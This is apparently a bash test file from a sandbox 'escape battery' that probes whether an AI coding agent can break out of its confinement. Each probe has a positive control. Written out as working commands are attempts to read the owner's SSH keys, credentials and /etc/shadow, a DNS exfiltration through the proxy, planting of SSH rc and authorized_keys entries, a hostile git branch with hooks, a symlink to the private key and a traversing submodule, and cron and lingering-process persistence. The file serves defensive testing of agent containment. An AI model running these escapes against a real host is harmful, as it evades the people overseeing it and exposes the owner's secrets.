# SPDX-License-Identifier: MIT
# probes.sh: the escape battery's probes, sourced by battery.sh.
#
# One line of PROBES per probe: "id|category|expected verdict|what the agent tries".
# For each id:
#   p_<id>  run as the agent: exit 0 when the attempt WORKED (an escape: "open"), 1 when it
#           was refused ("blocked"), 77 = skip (reason on stdout), 78 = the attempt is done
#           and root judges the outcome afterwards with j_<id> PLACE (0 = it worked).
#   c_<id>  the positive control, run as root (or as the owner through as_owner): the same
#           access by someone entitled to it must work, so a missing tool or a canary that
#           was never planted cannot pass for "blocked". Exit 0 = the control works.
# Expected verdict: blocked | open | agentd=V,ssh=V (the places legitimately differ; each
# such difference is a documented gap, see docs/escape.md). "open" means the access works
# by design or is a known, documented exposure (the reason is in docs/escape.md).
#
# Canary facts come from $ESC_DIR/canaries.env (written by the harness, world-readable,
# holding markers and pids but no secret it would be an escape to know).

PROBES=(
	# --- files and /proc
	"f-ssh-key|files|blocked|read the owner's ~/.ssh/id_ed25519 (0600 in a 0700 dir)"
	"f-secret-0600|files|blocked|read a 0600 secret file in the owner's 0755 home"
	"f-git-cred|files|blocked|read the owner's ~/.git-credentials (0600)"
	"f-lax-0644|files|open|read ~/.aws/credentials left 0644 in a 0755 home (doctor FAILs it)"
	"f-shadow|files|blocked|read /etc/shadow"
	"f-etc-write|files|blocked|create a file in /etc/ocsb"
	"f-authkeys|files|blocked|append to the agent's root-owned authorized keys"
	"f-oc-password|files|blocked|read OpenCode's password file under /var/lib/ocsb"
	"f-oc-log|files|blocked|read agentd's OpenCode log under /var/log/ocsb"
	"f-owner-repo|files|blocked|write into the owner's repository (.git/hooks)"
	"f-owner-rc|files|blocked|append to the owner's ~/.bashrc"
	"f-su|files|blocked|become root with su"
	"f-group-rw|files|blocked|write the owner's group-writable (0660) file"
	"p-environ|files|blocked|read the environment of the owner's process"
	"p-cmdline|files|blocked|read the secret on the owner's process command line"
	"p-owner-visible|files|blocked|see the owner's processes in /proc"
	"p-maps|files|blocked|read /proc/PID/maps of the owner's process (ptrace check)"
	"p-fd|files|blocked|list /proc/PID/fd of the owner's process"
	"p-root-environ|files|blocked|read the environment of a root process"
	"p-kill|files|blocked|signal the owner's process"
	"p-prlimit|files|blocked|change the owner's process limits (prlimit)"
	"id-machine-id|files|blocked|read the host's /etc/machine-id"
	"id-dbus-machine-id|files|blocked|read the host's /var/lib/dbus/machine-id"
	"id-boot-id|files|blocked|read the host's boot_id"
	"id-cmdline|files|blocked|read the host's kernel command line"
	"id-dmi|files|blocked|read DMI identifiers (/sys/class/dmi/id)"
	"id-umount|files|blocked|undo the masks: unshare -Urm, umount /etc/machine-id"
	"t-tmp|files|blocked|see the owner's file in /tmp"
	"t-shm|files|blocked|see the owner's file in /dev/shm"
	# --- local IPC
	"i-unix-tmp|ipc|blocked|connect to the owner's socket in /tmp/.X11-unix"
	"i-unix-home|ipc|blocked|connect to the owner's socket in her home (0700 dir)"
	"i-abstract|ipc|blocked|connect to the owner's abstract Unix socket"
	"i-dbus|ipc|blocked|call the owner's D-Bus session bus"
	"i-sysv-shm|ipc|blocked|attach the owner's 0600 System V shared memory"
	"i-agentd-ctl|ipc|blocked|talk to ocsb-agentd's control socket"
	# --- network
	"n-direct|network|blocked|TCP to the internet (198.18.1.10:80) without the proxy"
	"n-direct-py|network|blocked|TCP to the internet from a program ignoring proxy variables"
	"n-lo-ssh|network|blocked|TCP to 127.0.0.1:22 (sshd)"
	"n-lo-owner|network|blocked|TCP to the owner's listener on 127.0.0.1"
	"n-lo-127-2|network|blocked|TCP to the owner's listener on 127.0.0.2"
	"n-lan|network|blocked|TCP to the owner's listener on the LAN address 198.18.0.1"
	"n-v6-lo|network|blocked|TCP to the owner's listener on [::1]"
	"n-v6-local|network|blocked|TCP to the owner's listener on a local IPv6 address"
	"n-v4mapped|network|blocked|TCP to ::ffff:127.0.0.1 (IPv4-mapped)"
	"n-dns-udp|network|blocked|UDP 53 to the name server"
	"n-dns-tcp|network|blocked|TCP 53 to the name server"
	"n-udp|network|blocked|UDP to the internet (not DNS)"
	"n-icmp|network|blocked|ICMP echo to the internet"
	"n-raw|network|blocked|open a raw IP socket"
	"n-packet|network|blocked|open an AF_PACKET socket"
	"n-metadata|network|blocked|TCP to the cloud metadata address 169.254.169.254"
	"n-userns|network|blocked|TCP to the internet from a new user namespace"
	"n-userns-raw|network|blocked|raw socket on the host's network from a user namespace"
	"n-proxy-ok|network|open|reach an allowed host through the proxy (functional control)"
	# --- proxy abuse
	"x-loopback|proxy|blocked|proxy to the owner's listener on 127.0.0.1"
	"x-localhost|proxy|blocked|proxy to http://localhost:PORT/"
	"x-v6-lo|proxy|blocked|proxy to the owner's listener on [::1]"
	"x-lan|proxy|blocked|proxy to a service on the host's own non-private address (198.18.0.1:80)"
	"x-metadata|proxy|blocked|proxy to the cloud metadata address"
	"x-blocked|proxy|blocked|proxy to a host blocked by the rules"
	"x-connect-22|proxy|blocked|CONNECT to port 22 through the proxy"
	"x-mgr|proxy|blocked|squid cache manager pages (squid-internal-mgr)"
	"x-dns-exfil|proxy|open|a secret in a host name reaches DNS through the proxy (blocklist policy)"
	# --- ssh
	"s-rc|ssh|blocked|~/.ssh/rc runs at the next login"
	"s-environment|ssh|blocked|~/.ssh/environment sets variables at the next login"
	"s-authkeys|ssh|blocked|a key planted in ~/.ssh/authorized_keys logs in"
	"s-agent-fwd|ssh|blocked|use a forwarded ssh-agent"
	# --- git exchange
	"g-hostile|git|blocked|hostile branch content (filters, hooks, symlinks) changes the owner's repo on pull"
	"g-refname|git|blocked|a branch named to escape refs/remotes/AGENT/ lands elsewhere on pull"
	# --- mirror and secrets (features of other branches: skip while absent)
	"m-symlink|mirror|blocked|swap a mirrored path for a symlink to the owner's secret"
	"k-secrets-home|secrets|blocked|find the agent's secrets in its home"
	# --- persistence
	"r-cron|persistence|blocked|install a crontab"
	"r-at|persistence|blocked|queue an at job"
	"r-linger|persistence|blocked|leave a process running after the agent is stopped"
	# --- resource exhaustion (bounded: limits are read, never exhausted)
	"e-nproc|exhaustion|blocked|unlimited processes (RLIMIT_NPROC hard limit)"
	"e-core|exhaustion|blocked|dump core files (RLIMIT_CORE hard limit)"
	"e-cgroup|exhaustion|blocked|no memory/tasks cgroup limit (ssh sessions join OpenCode's cgroup)"
)

[ -r "$ESC_DIR/canaries.env" ] && . "$ESC_DIR/canaries.env"

# ---- helpers (no bashisms beyond bash itself; everything bounded by timeouts)
# A banner line arrived: the connection reached the listener (not only the SYN's answer).
tcp() { timeout 3 bash -c 'exec 3<>"/dev/tcp/$0/$1"; head -n 1 <&3' "$1" "$2" 2>/dev/null | grep -q .; }
tcp_open() { timeout 3 bash -c 'exec 3<>"/dev/tcp/$0/$1"' "$1" "$2" 2>/dev/null; }
py() { timeout 5 /usr/bin/python3 -c "$@"; }
viaproxy() { curl -s -o /dev/null -w '%{http_code}' --max-time 5 -x "http://$C_PROXY" "$@" | grep -q '^2'; }
unix_connect() { py 'import socket,sys
s=socket.socket(socket.AF_UNIX); s.settimeout(3); s.connect(sys.argv[1]); print(s.recv(64))' "$1" 2>/dev/null | grep -q OWNER; }
as_owner() { setpriv --reuid="$C_OWNER" --regid="$C_OWNER" --init-groups --reset-env env -C "$C_OWNER_HOME" "$@"; }
as_agent() { setpriv --reuid="$C_AGENT" --regid="$C_AGENT" --init-groups --reset-env env -C / "$@"; }
has() { grep -q -- "$1" 2>/dev/null; }

# ---- files and /proc
p_f-ssh-key() { cat "$C_OWNER_HOME/.ssh/id_ed25519" 2>/dev/null | has PRIVATE; }
c_f-ssh-key() { as_owner cat "$C_OWNER_HOME/.ssh/id_ed25519" | has PRIVATE; }
p_f-secret-0600() { cat "$C_OWNER_HOME/secret.txt" 2>/dev/null | has "$C_MARK"; }
c_f-secret-0600() { as_owner cat "$C_OWNER_HOME/secret.txt" | has "$C_MARK"; }
p_f-git-cred() { cat "$C_OWNER_HOME/.git-credentials" 2>/dev/null | has "$C_MARK"; }
c_f-git-cred() { as_owner cat "$C_OWNER_HOME/.git-credentials" | has "$C_MARK"; }
p_f-lax-0644() { cat "$C_OWNER_HOME/.aws/credentials" 2>/dev/null | has "$C_MARK"; }
c_f-lax-0644() { as_owner cat "$C_OWNER_HOME/.aws/credentials" | has "$C_MARK"; }
p_f-shadow() { cat /etc/shadow 2>/dev/null | has '^root:'; }
c_f-shadow() { has '^root:' </etc/shadow; }
p_f-etc-write() { (: >"/etc/ocsb/escape-$C_PLACE") 2>/dev/null; }
c_f-etc-write() { : >/etc/ocsb/escape-control && rm -f /etc/ocsb/escape-control; }
p_f-authkeys() { (echo "# escape" >>"/etc/ocsb/keys/$C_AGENT") 2>/dev/null; }
c_f-authkeys() { test -w "/etc/ocsb/keys/$C_AGENT" && test -s "/etc/ocsb/keys/$C_AGENT"; }
p_f-oc-password() { cat /var/lib/ocsb/agentd/*.password 2>/dev/null | grep -q .; }
c_f-oc-password() { cat /var/lib/ocsb/agentd/*.password | grep -q .; }
p_f-oc-log() { cat /var/log/ocsb/opencode-*.log 2>/dev/null | grep -q .; }
c_f-oc-log() { cat /var/log/ocsb/opencode-*.log | grep -q .; }
p_f-owner-repo() { (: >"$C_PROJECT/.git/hooks/post-checkout") 2>/dev/null; }
c_f-owner-repo() { as_owner touch "$C_PROJECT/.git/hooks/escape-control" && rm -f "$C_PROJECT/.git/hooks/escape-control"; }
p_f-owner-rc() { (echo "# escape" >>"$C_OWNER_HOME/.bashrc") 2>/dev/null; }
c_f-owner-rc() { as_owner test -w "$C_OWNER_HOME/.bashrc"; }
p_f-su() { timeout 5 su -c true root </dev/null >/dev/null 2>&1; }
c_f-su() { timeout 5 su -c true root </dev/null >/dev/null 2>&1; }
p_f-group-rw() { (echo "# escape" >>"$C_OWNER_HOME/group-rw.txt") 2>/dev/null; }
c_f-group-rw() { as_owner test -w "$C_OWNER_HOME/group-rw.txt"; }
p_p-environ() { tr '\0' '\n' <"/proc/$C_OWNER_PID/environ" 2>/dev/null | has "$C_MARK"; }
c_p-environ() { as_owner tr '\0' '\n' <"/proc/$C_OWNER_PID/environ" | has "$C_MARK"; }
p_p-cmdline() { tr '\0' ' ' <"/proc/$C_OWNER_PID/cmdline" 2>/dev/null | has "$C_MARK"; }
c_p-cmdline() { as_owner cat "/proc/$C_OWNER_PID/cmdline" | tr '\0' ' ' | has "$C_MARK"; }
p_p-owner-visible() { ps -e -o user= 2>/dev/null | grep -qx "$C_OWNER"; }
c_p-owner-visible() { ps -e -o user= | grep -qx "$C_OWNER"; }
p_p-maps() { cat "/proc/$C_OWNER_PID/maps" 2>/dev/null | grep -q .; }
c_p-maps() { as_owner cat "/proc/$C_OWNER_PID/maps" | grep -q .; }
p_p-fd() { ls "/proc/$C_OWNER_PID/fd" >/dev/null 2>&1; }
c_p-fd() { as_owner ls "/proc/$C_OWNER_PID/fd" >/dev/null; }
p_p-root-environ() { tr '\0' '\n' <"/proc/$C_ROOT_PID/environ" 2>/dev/null | has "$C_MARK"; }
c_p-root-environ() { tr '\0' '\n' <"/proc/$C_ROOT_PID/environ" | has "$C_MARK"; }
p_p-kill() { kill -0 "$C_OWNER_PID" 2>/dev/null; }
c_p-kill() { as_owner kill -0 "$C_OWNER_PID"; }
p_p-prlimit() { prlimit --pid "$C_OWNER_PID" --core=0:0 >/dev/null 2>&1; }
c_p-prlimit() { as_owner prlimit --pid "$C_OWNER_PID" --core=0:0; }
p_id-machine-id() { has "$C_MACHINE_ID" </etc/machine-id; }
c_id-machine-id() { has "$C_MACHINE_ID" </etc/machine-id; }
p_id-dbus-machine-id() { has "$C_MACHINE_ID" </var/lib/dbus/machine-id; }
c_id-dbus-machine-id() { has "$C_MACHINE_ID" </var/lib/dbus/machine-id; }
p_id-boot-id() { has "$C_BOOT_ID" </proc/sys/kernel/random/boot_id; }
c_id-boot-id() { has "$C_BOOT_ID" </proc/sys/kernel/random/boot_id; }
p_id-cmdline() { [ "$(sha256sum </proc/cmdline | cut -c1-64)" = "$C_CMDLINE_SUM" ]; }
c_id-cmdline() { [ "$(sha256sum </proc/cmdline | cut -c1-64)" = "$C_CMDLINE_SUM" ]; }
p_id-dmi() {
	[ -n "$C_DMI_NAME" ] || { echo "this machine has no DMI (/sys/class/dmi/id)"; return 77; }
	has "$C_DMI_NAME" </sys/class/dmi/id/product_name
}
c_id-dmi() { [ -z "$C_DMI_NAME" ] || has "$C_DMI_NAME" </sys/class/dmi/id/product_name; }
# Mounts inherited by a less privileged user namespace are locked together by the kernel.
p_id-umount() { timeout 5 unshare -Urm sh -c 'umount /etc/machine-id 2>/dev/null; cat /etc/machine-id' 2>/dev/null | has "$C_MACHINE_ID"; }
c_id-umount() { timeout 5 unshare -m sh -c 'umount /etc/machine-id 2>/dev/null; cat /etc/machine-id' | has "$C_MACHINE_ID"; }
p_t-tmp() { cat /tmp/owner-canary.txt 2>/dev/null | has "$C_MARK"; }
c_t-tmp() { as_owner cat /tmp/owner-canary.txt | has "$C_MARK"; }
p_t-shm() { cat /dev/shm/owner-canary 2>/dev/null | has "$C_MARK"; }
c_t-shm() { as_owner cat /dev/shm/owner-canary | has "$C_MARK"; }

# ---- local IPC
p_i-unix-tmp() { unix_connect /tmp/.X11-unix/X9; }
c_i-unix-tmp() { as_owner bash -c "$(declare -f py unix_connect); unix_connect /tmp/.X11-unix/X9"; }
p_i-unix-home() { unix_connect "$C_OWNER_HOME/.run/app.sock"; }
c_i-unix-home() { as_owner bash -c "$(declare -f py unix_connect); unix_connect $C_OWNER_HOME/.run/app.sock"; }
abstract() { py 'import socket,sys
s=socket.socket(socket.AF_UNIX); s.settimeout(3); s.connect("\0"+sys.argv[1]); print(s.recv(64))' "$C_ABSTRACT" 2>/dev/null | has OWNER; }
p_i-abstract() { abstract; }
c_i-abstract() { as_owner bash -c "$(declare -f py has abstract); C_ABSTRACT=$C_ABSTRACT abstract"; }
dbus_list() { timeout 5 dbus-send --bus="$C_DBUS" --print-reply --dest=org.freedesktop.DBus / org.freedesktop.DBus.ListNames 2>/dev/null | has 'org.freedesktop.DBus'; }
p_i-dbus() { dbus_list; }
c_i-dbus() { as_owner bash -c "$(declare -f dbus_list has); C_DBUS='$C_DBUS' dbus_list"; }
shm_attach() { py 'import ctypes,sys
l=ctypes.CDLL(None, use_errno=True); l.shmat.restype=ctypes.c_void_p
i=l.shmget(int(sys.argv[1]), 0, 0)
sys.exit(0 if i >= 0 and l.shmat(i, None, 0) not in (None, ctypes.c_void_p(-1).value) else 1)' "$C_SHM_KEY"; }
p_i-sysv-shm() { shm_attach 2>/dev/null; }
c_i-sysv-shm() { as_owner bash -c "$(declare -f py shm_attach); C_SHM_KEY=$C_SHM_KEY shm_attach"; }
ctl_status() { py 'import socket,struct
s=socket.socket(socket.AF_UNIX); s.settimeout(3); s.connect("/run/ocsb/agentd.sock")
m=b"OCSB/1 STATUS\n"; s.sendall(struct.pack(">I",len(m))+m); d=s.recv(4096); print(d)' 2>/dev/null | grep -q netlock; }
p_i-agentd-ctl() { ctl_status; }
c_i-agentd-ctl() { ctl_status; }

# ---- network
p_n-direct() { curl -s --max-time 3 --noproxy '*' http://198.18.1.10/ 2>/dev/null | has WEB; }
c_n-direct() { curl -s --max-time 3 --noproxy '*' http://198.18.1.10/ | has WEB; }
p_n-direct-py() { py 'import socket; print(socket.create_connection(("198.18.1.10",80),timeout=3).recv(1))' >/dev/null 2>&1; }
c_n-direct-py() { py 'import socket; s=socket.create_connection(("198.18.1.10",80),timeout=3)'; }
p_n-lo-ssh() { tcp 127.0.0.1 22; }
c_n-lo-ssh() { tcp 127.0.0.1 22; }
p_n-lo-owner() { tcp 127.0.0.1 "$C_LPORT"; }
c_n-lo-owner() { as_owner bash -c "$(declare -f tcp); tcp 127.0.0.1 $C_LPORT"; }
p_n-lo-127-2() { tcp 127.0.0.2 "$C_LPORT"; }
c_n-lo-127-2() { tcp 127.0.0.2 "$C_LPORT"; }
p_n-lan() { tcp 198.18.0.1 "$C_LPORT"; }
c_n-lan() { tcp 198.18.0.1 "$C_LPORT"; }
p_n-v6-lo() { tcp ::1 "$C_LPORT"; }
c_n-v6-lo() { tcp ::1 "$C_LPORT"; }
p_n-v6-local() { tcp "$C_V6_LOCAL" "$C_LPORT"; }
c_n-v6-local() { tcp "$C_V6_LOCAL" "$C_LPORT"; }
v4mapped() { py 'import socket
s=socket.socket(socket.AF_INET6); s.settimeout(3); s.connect(("::ffff:127.0.0.1", 22)); print(s.recv(64))' 2>/dev/null | has SSH; }
p_n-v4mapped() { v4mapped; }
c_n-v4mapped() { v4mapped; }
udp() { py 'import socket,sys
s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
s.sendto(b"q", (sys.argv[1], int(sys.argv[2]))); print(s.recv(64))' "$@" 2>/dev/null | grep -q CANARY; }
p_n-dns-udp() { udp 198.18.0.53 53; }
c_n-dns-udp() { udp 198.18.0.53 53; }
p_n-dns-tcp() { tcp 198.18.0.53 53; }
c_n-dns-tcp() { tcp 198.18.0.53 53; }
p_n-udp() { udp 198.18.1.10 9999; }
c_n-udp() { udp 198.18.1.10 9999; }
icmp() { py 'import socket,struct
def ck(b):
    s=sum(struct.unpack("!%dH" % (len(b)//2), b)); s=(s>>16)+(s&0xffff); s+=s>>16; return ~s&0xffff
try:
    s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); raw=False
except OSError:
    s=socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); raw=True
s.settimeout(2)
p=struct.pack("!BBHHH",8,0,0,0x4242,1)+b"ocsb"; p=p[:2]+struct.pack("!H",ck(p))+p[4:]
s.sendto(p,("198.18.1.10",0)); d=s.recv(128); print("reply", len(d))' 2>/dev/null | has reply; }
p_n-icmp() { icmp; }
c_n-icmp() { icmp; }
p_n-raw() { py 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)' 2>/dev/null; }
c_n-raw() { py 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)'; }
p_n-packet() { py 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)' 2>/dev/null; }
c_n-packet() { py 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)'; }
p_n-metadata() { curl -s --max-time 3 --noproxy '*' http://169.254.169.254/ 2>/dev/null | has METADATA; }
c_n-metadata() { curl -s --max-time 3 --noproxy '*' http://169.254.169.254/ | has METADATA; }
p_n-userns() { timeout 6 unshare -Ur curl -s --max-time 3 --noproxy '*' http://198.18.1.10/ 2>/dev/null | has WEB; }
c_n-userns() { timeout 6 unshare -U curl -s --max-time 3 --noproxy '*' http://198.18.1.10/ | has WEB; }
# In a new user namespace the agent is "root" there, but raw sockets on the host's
# network namespace still need CAP_NET_RAW in the namespace's owner (the initial one).
p_n-userns-raw() { timeout 6 unshare -Ur /usr/bin/python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)' 2>/dev/null; }
c_n-userns-raw() { timeout 6 unshare -U true && c_n-raw; }
p_n-proxy-ok() { curl -s --max-time 5 -x "http://$C_PROXY" http://allowed.test/ | has 'WEB allowed.test'; }
c_n-proxy-ok() { curl -s --max-time 5 --noproxy '*' http://allowed.test/ | has 'WEB allowed.test'; }

# ---- proxy abuse (the control reaches the same target directly, as root or the owner)
p_x-loopback() { viaproxy "http://127.0.0.1:$C_HPORT/"; }
c_x-loopback() { curl -s --max-time 3 --noproxy '*' "http://127.0.0.1:$C_HPORT/" | has OWNER; }
p_x-localhost() { viaproxy "http://localhost:$C_HPORT/"; }
c_x-localhost() { curl -s --max-time 3 --noproxy '*' "http://localhost:$C_HPORT/" | has OWNER; }
p_x-v6-lo() { viaproxy "http://[::1]:$C_HPORT/"; }
c_x-v6-lo() { curl -s --max-time 3 --noproxy '*' "http://[::1]:$C_HPORT/" | has OWNER; }
p_x-lan() { viaproxy "http://198.18.0.1:$C_HPORT/"; }
c_x-lan() { curl -s --max-time 3 --noproxy '*' "http://198.18.0.1:$C_HPORT/" | has OWNER; }
p_x-metadata() { viaproxy http://169.254.169.254/; }
c_x-metadata() { curl -s --max-time 3 --noproxy '*' http://169.254.169.254/ | has METADATA; }
p_x-blocked() { viaproxy http://blocked.test/; }
c_x-blocked() { curl -s --max-time 3 --noproxy '*' http://blocked.test/ | has WEB; }
connect22() { py 'import socket,sys
s=socket.create_connection(sys.argv[1].split(":"), timeout=5)
s.sendall(b"CONNECT other.test:22 HTTP/1.1\r\nHost: other.test:22\r\n\r\n")
d=b""
while b"\r\n\r\n" not in d:
    c=s.recv(4096)
    if not c: break
    d+=c
print(d.split(b"\r\n")[0].decode())' "$C_PROXY" 2>/dev/null | grep -q ' 200'; }
p_x-connect-22() { connect22; }
c_x-connect-22() { tcp 198.18.1.12 22; }
# squid answers manager requests for its own name and port; every rendering must refuse them.
mgr() { curl -s --max-time 5 -x "http://$C_PROXY" "http://127.0.0.1:${C_PROXY##*:}/squid-internal-mgr/info" 2>/dev/null | has 'Squid Object Cache'; }
p_x-mgr() { mgr; }
c_x-mgr() { [ "$(curl -s -o /dev/null -w '%{http_code}' --max-time 5 -x "http://$C_PROXY" http://allowed.test/)" = 200 ]; }
# The name carries the marker and the place; the harness's DNS logger saw it or not.
p_x-dns-exfil() { curl -s -o /dev/null --max-time 8 -x "http://$C_PROXY" "http://x$C_MARK-$C_PLACE.exfil.test/"; return 78; }
j_x-dns-exfil() { grep -q "x$C_MARK-$1.exfil.test" "$C_DNS_LOG"; }
c_x-dns-exfil() { getent ahostsv4 "xctl$C_MARK.exfil.test" >/dev/null 2>&1; grep -q "xctl$C_MARK.exfil.test" "$C_DNS_LOG"; }

# ---- ssh (judged at the next login of the agent, made by the harness as the owner)
p_s-rc() { mkdir -p ~/.ssh 2>/dev/null; printf 'touch %s\n' "$C_SCRATCH/ssh-rc-ran-$C_PLACE" >~/.ssh/rc 2>/dev/null; return 78; }
j_s-rc() { [ -e "$C_SCRATCH/ssh-rc-ran-$1" ]; }
# Control: the owner's own ~/.ssh/rc does run at her login (sshd's default for her).
c_s-rc() {
	as_owner bash -c 'rm -f ~/rc-ran; echo "touch ~/rc-ran" >~/.ssh/rc' &&
		as_owner timeout 10 ssh -i "$C_OWNER_HOME/.ssh/id_ed25519" -o IdentitiesOnly=yes -o BatchMode=yes \
			-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR \
			"$C_OWNER@localhost" true </dev/null
	local r=1
	[ -e "$C_OWNER_HOME/rc-ran" ] && r=0
	rm -f "$C_OWNER_HOME/rc-ran" "$C_OWNER_HOME/.ssh/rc"
	return $r
}
p_s-environment() { mkdir -p ~/.ssh 2>/dev/null; echo "ESCAPE_ENV_$C_PLACE=1" >~/.ssh/environment 2>/dev/null; return 78; }
j_s-environment() { grep -q "ESCAPE_ENV_$1=1" "$C_SCRATCH/next-login-env"; }
# Control: the judge's evidence exists (the environment of that next login was captured).
c_s-environment() { grep -q '^PATH=' "$C_SCRATCH/next-login-env"; }
p_s-authkeys() {
	mkdir -p ~/.ssh 2>/dev/null
	rm -f ~/.ssh/planted-"$C_PLACE" ~/.ssh/planted-"$C_PLACE".pub
	ssh-keygen -q -t ed25519 -N '' -f ~/.ssh/planted-"$C_PLACE" >/dev/null 2>&1 &&
		cat ~/.ssh/planted-"$C_PLACE".pub >>~/.ssh/authorized_keys && return 78
	return 1
}
j_s-authkeys() {
	cp "$C_AGENT_HOME/.ssh/planted-$1" "$C_SCRATCH/planted-$1" && chmod 600 "$C_SCRATCH/planted-$1" &&
		timeout 10 ssh -i "$C_SCRATCH/planted-$1" -o IdentitiesOnly=yes -o BatchMode=yes \
			-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR \
			"$C_AGENT@localhost" true </dev/null
}
c_s-authkeys() { as_owner timeout 10 ssh -i "$C_OWNER_HOME/.ssh/id_ed25519" -o IdentitiesOnly=yes -o BatchMode=yes \
	-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR "$C_AGENT@localhost" true </dev/null; }
# The harness opens the ssh place with -A and the owner's ssh-agent in SSH_AUTH_SOCK.
p_s-agent-fwd() {
	[ -n "${SSH_AUTH_SOCK:-}" ] && timeout 5 ssh-add -l >/dev/null 2>&1
}
c_s-agent-fwd() { [ -S "$C_OWNER_AGENT_SOCK" ] && as_owner env SSH_AUTH_SOCK="$C_OWNER_AGENT_SOCK" ssh-add -l >/dev/null; }

# ---- git exchange (judged after the owner's `ocsb sync pull`)
p_g-hostile() {
	local d="$C_AGENT_CLONE" b="escape-$C_PLACE"
	[ -d "$d/.git" ] || { echo "no agent clone at $d"; return 77; }
	(
		cd "$d" && git checkout -q -B "$b" 2>/dev/null &&
			printf '* filter=evil\n' >.gitattributes &&
			mkdir -p .githooks && printf '#!/bin/sh\ntouch /tmp/pwned\n' >.githooks/post-checkout &&
			chmod +x .githooks/post-checkout && ln -sfn "$C_OWNER_HOME/.ssh/id_ed25519" leak &&
			printf '[submodule "x"]\n\tpath = x\n\turl = ../../etc\n' >.gitmodules &&
			git add -A && git -c user.name=agent -c user.email=a@b commit -q -m "escape $C_PLACE" &&
			git checkout -q - 2>/dev/null
	) >/dev/null 2>&1 || return 1
	return 78
}
j_g-hostile() { [ "$(cat "$C_SCRATCH/owner-repo-after")" != "$(cat "$C_SCRATCH/owner-repo-before")" ]; }
c_g-hostile() { [ -d "$C_PROJECT/.git" ] && as_owner git -C "$C_PROJECT" status --porcelain >/dev/null; }
p_g-refname() {
	local d="$C_AGENT_CLONE"
	[ -d "$d/.git" ] || { echo "no agent clone at $d"; return 77; }
	# git refuses most of these names itself; write the ref file directly to get past it.
	mkdir -p "$d/.git/refs/heads/..%2f" 2>/dev/null
	git -C "$d" rev-parse HEAD >"$d/.git/refs/heads/-escape-$C_PLACE" 2>/dev/null || return 1
	return 78
}
j_g-refname() { as_owner git -C "$C_PROJECT" for-each-ref --format='%(refname)' | grep -v "^refs/remotes/$C_AGENT/" | grep -q "escape-$1"; }
c_g-refname() { as_owner git -C "$C_PROJECT" for-each-ref --format='%(refname)' | grep -q "^refs/remotes/$C_AGENT/escape-"; }

# ---- mirror, secrets: features of other branches
p_m-symlink() {
	[ -d /var/lib/ocsb/mirror ] || { echo "no config mirror on this build (/var/lib/ocsb/mirror absent)"; return 77; }
	local t
	t=$(find ~ -maxdepth 3 -type l -lname '/var/lib/ocsb/mirror/*' 2>/dev/null | head -1)
	[ -n "$t" ] || { echo "the agent's home has no link into the mirror"; return 77; }
	# Swap a mirrored link for one to the owner's secret; root must not copy through it.
	ln -sfn "$C_OWNER_HOME/secret.txt" "$t" 2>/dev/null && return 78
	return 1
}
j_m-symlink() { grep -rqs "$C_MARK" /var/lib/ocsb/mirror; }
c_m-symlink() { [ -d /var/lib/ocsb/mirror ] || return 0; ls /var/lib/ocsb/mirror >/dev/null; }
p_k-secrets-home() {
	[ -e "/run/ocsb/$C_AGENT/env" ] || { echo "no secrets hand-over on this build (/run/ocsb/$C_AGENT/env absent)"; return 77; }
	grep -rqs "$C_SECRET_MARK" ~ 2>/dev/null
}
c_k-secrets-home() { [ ! -e "/run/ocsb/$C_AGENT/env" ] || grep -q . "/run/ocsb/$C_AGENT/env"; }

# ---- persistence
p_r-cron() { echo '* * * * * true' | timeout 5 crontab - 2>/dev/null && timeout 5 crontab -l 2>/dev/null | has true; }
c_r-cron() { as_owner bash -c "echo '* * * * * true' | crontab - && crontab -l | grep -q true && crontab -r"; }
p_r-at() { echo true | timeout 5 at now + 1 hour >/dev/null 2>&1; }
c_r-at() { as_owner bash -c 'echo true | at now + 1 hour' >/dev/null 2>&1 && for j in $(as_owner atq | cut -f1); do as_owner atrm "$j"; done; }
p_r-linger() { setsid bash -c "exec -a escape-linger-$C_PLACE sleep 3600" </dev/null >/dev/null 2>&1 & return 78; }
j_r-linger() { pgrep -f "escape-linger-$1" >/dev/null; }
c_r-linger() { as_agent setsid sleep 1 </dev/null >/dev/null 2>&1; }

# ---- resource exhaustion: read the limits, never exhaust anything
p_e-nproc() { l=$(ulimit -Hu); [ "$l" = unlimited ] || [ "$l" -gt 65536 ]; }
c_e-nproc() { ulimit -Hu | grep -Eq '^(unlimited|[0-9]+)$'; }
p_e-core() { [ "$(ulimit -Hc)" != 0 ]; }
c_e-core() { ulimit -Hc | grep -Eq '^(unlimited|[0-9]+)$'; }
p_e-cgroup() {
	# Open (0) when this process has no memory or no task limit in its cgroup.
	local mem pids v2
	mem=$(awk -F: '$2 ~ /(^|,)memory(,|$)/ { print $3 }' /proc/self/cgroup)
	pids=$(awk -F: '$2 ~ /(^|,)pids(,|$)/ { print $3 }' /proc/self/cgroup)
	if [ -n "$mem" ] && [ -n "$pids" ]; then
		echo "cgroup v1 memory:$mem pids:$pids"
		case $mem in */ocsb-*) ;; *) return 0 ;; esac
		[ "$(cat "/sys/fs/cgroup/memory$mem/memory.limit_in_bytes")" -ge 9223372036854771712 ] ||
			[ "$(cat "/sys/fs/cgroup/pids$pids/pids.max")" = max ]
		return
	fi
	v2=$(sed -n 's/^0:://p' /proc/self/cgroup)
	echo "cgroup v2 ${v2:-?}"
	case $v2 in */ocsb-*) ;; *) return 0 ;; esac
	[ "$(cat "/sys/fs/cgroup$v2/memory.max")" = max ] || [ "$(cat "/sys/fs/cgroup$v2/pids.max")" = max ]
}
c_e-cgroup() { test -r /proc/self/cgroup; }
